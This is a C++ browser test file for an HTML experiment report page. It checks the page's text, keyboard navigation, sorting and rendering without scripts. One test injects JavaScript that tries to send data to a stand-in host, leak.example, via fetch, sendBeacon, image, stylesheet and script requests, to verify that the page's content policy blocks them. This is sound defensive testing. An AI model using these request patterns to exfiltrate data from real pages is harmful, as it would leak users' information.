// report.html in a browser: its text, sorting by pointer and key, without scripts, and that nothing
// leaves the page.
#include <string>

#include "absl/strings/str_cat.h"
#include "experiments/report/page_fixture.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "tools/base/status_matchers.h"

namespace pipelab {
namespace {

using ::testing::Contains;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;

TEST_F(PageTest, ShowsItsText) {
  const std::string text = Text("document.body.innerText");
  for (const char* expected :
       {"A sample <report> & its parts", "Second paragraph.", "step time", "nats/token", "measured",
        "41.3", "published", "the run was <interrupted>", "Where the numbers of a column are from",
        "a & b <c>.", "learning_rate", "Processor(R) @ 2.00GHz", "gpipe, simulated",
        "Skip to the content"}) {
    EXPECT_THAT(text, HasSubstr(expected));
  }
  EXPECT_EQ(Text("document.title"), "A sample <report> & its parts");
  EXPECT_THAT(browser_->complaints(), IsEmpty());
}

TEST_F(PageTest, TheFirstTabSkips) {
  ASSERT_THAT(browser_->Key("Tab"), IsOk());
  EXPECT_EQ(Text("document.activeElement.textContent"), "Skip to the content");
  EXPECT_EQ(Get("document.activeElement.getBoundingClientRect().x >= 0"), true);
  ASSERT_THAT(browser_->Key("Enter"), IsOk());
  EXPECT_EQ(Text("document.activeElement.id"), "content");
}

TEST_F(PageTest, StandsStillWithoutScripts) {
  ASSERT_THAT(browser_->Call("Emulation.setScriptExecutionDisabled", {{"value", true}}), IsOk());
  ASSERT_THAT(browser_->Open(PageHtml()), IsOk());
  EXPECT_EQ(Get("document.querySelectorAll('.tools, thead button').length"), 0);
  EXPECT_EQ(Get("document.querySelectorAll('#sorting tbody tr').length"), 6);
  EXPECT_EQ(Get("[...document.querySelectorAll('.pl-plot')].every((g) => g.getBBox().width > 900)"),
            true);
  ASSERT_THAT(browser_->Call("Emulation.setScriptExecutionDisabled", {{"value", false}}), IsOk());
}

TEST_F(PageTest, NothingLeavesThePage) {
  EXPECT_THAT(browser_->requests(), IsEmpty());
  // Even what a script in it asks for.
  Get("new Promise((done) => { fetch('http://leak.example/a').catch(() => 0);"
      "new Image().src = 'http://leak.example/b.png';"
      "navigator.sendBeacon('http://leak.example/c', 'x');"
      "const l = document.createElement('link'); l.rel = 'stylesheet';"
      "l.href = 'http://leak.example/d.css'; document.head.append(l);"
      "const s = document.createElement('script'); s.src = 'http://leak.example/e.js';"
      "document.head.append(s); setTimeout(() => done(1), 300); })");
  for (const std::string& request : browser_->trap().Collect()) {
    EXPECT_THAT(request, Not(HasSubstr("leak.example")));
  }
  EXPECT_THAT(browser_->complaints(), Contains(HasSubstr("Content Security Policy")));
}

// The test above can fail: without the policy the same request arrives.
TEST_F(PageTest, TheTrapSeesWhatLeavesAPage) {
  ASSERT_THAT(
      browser_->Open("<!DOCTYPE html><title>x</title><img src='http://leak.example/x.png'>"),
      IsOk());
  EXPECT_THAT(browser_->requests(), Contains("http://leak.example/x.png"));
  EXPECT_THAT(browser_->trap().Collect(), Contains(HasSubstr("http://leak.example/x.png")));
}

class SortingTest : public PageTest {
 protected:
  // The sorting table: its first column, in order.
  std::string Order() {
    return Text(
        "[...document.querySelectorAll('#sorting tbody tr')].map((r) => "
        "r.cells[0].textContent).join(' ')");
  }
  std::string Sorted() {
    return Text(
        "[...document.querySelectorAll('#sorting thead th')].map((h) => "
        "h.ariaSort ?? '-').join(' ')");
  }
  static std::string HeaderButton(int column) {
    return absl::StrCat("document.querySelectorAll('#sorting thead button')[", column, "]");
  }
};

TEST_F(SortingTest, SortsByClick) {
  EXPECT_EQ(Sorted(), "- - -");
  Click(HeaderButton(1));
  EXPECT_EQ(Order(), "minus n9 n10 ten too n100 gone");
  EXPECT_EQ(Sorted(), "- ascending -");
  EXPECT_EQ(Text("document.querySelector('#sorting').parentElement.nextElementSibling.textContent"),
            "sorted by time, ascending");
  Click(HeaderButton(1));
  EXPECT_EQ(Order(), "n100 n10 ten too n9 minus gone");
  EXPECT_EQ(Sorted(), "- descending -");
  Click(HeaderButton(2));  // text, numbers in it by value
  EXPECT_EQ(Order(), "n9 gone n10 ten too n100 minus");
  EXPECT_EQ(Sorted(), "- - ascending");
}

// The sorted column is a plot: bars as long as the values, where none is negative.
TEST_F(SortingTest, TheSortedColumnHasBars) {
  Click(HeaderButton(1));
  EXPECT_EQ(Get("document.querySelectorAll('#sorting .bar').length"), 0);  // one is -1
  Click("document.querySelectorAll('#memory_bars thead button')[1]");
  EXPECT_EQ(Text("[...document.querySelectorAll('#memory_bars .bar')].map((c) => "
                 "c.style.getPropertyValue('--share')).join()"),
            "0.0,25.0,100.0");
  EXPECT_THAT(Text("getComputedStyle(document.querySelectorAll('#memory_bars .bar')[1])"
                   ".backgroundSize"),
              HasSubstr("25% 3px"));
  Click("document.querySelectorAll('#memory_bars thead button')[0]");
  EXPECT_EQ(Get("document.querySelectorAll('#memory_bars .bar').length"), 0);
}

TEST_F(SortingTest, SortsByKey) {
  // As with the keyboard alone: on from the table's scrolling region.
  Get("document.querySelector('#sorting').parentElement.focus()");
  for (int i = 0; i < 2; ++i) ASSERT_THAT(browser_->Key("Tab"), IsOk());
  ASSERT_EQ(Get(absl::StrCat("document.activeElement === ", HeaderButton(1))), true);
  EXPECT_EQ(Text("getComputedStyle(document.activeElement).outlineStyle"), "solid");
  ASSERT_THAT(browser_->Key("Enter"), IsOk());
  EXPECT_EQ(Order(), "minus n9 n10 ten too n100 gone");
  ASSERT_THAT(browser_->Key(" "), IsOk());
  EXPECT_EQ(Order(), "n100 n10 ten too n9 minus gone");
  EXPECT_EQ(Get(absl::StrCat("document.activeElement === ", HeaderButton(1))), true);
}

}  // namespace
}  // namespace pipelab
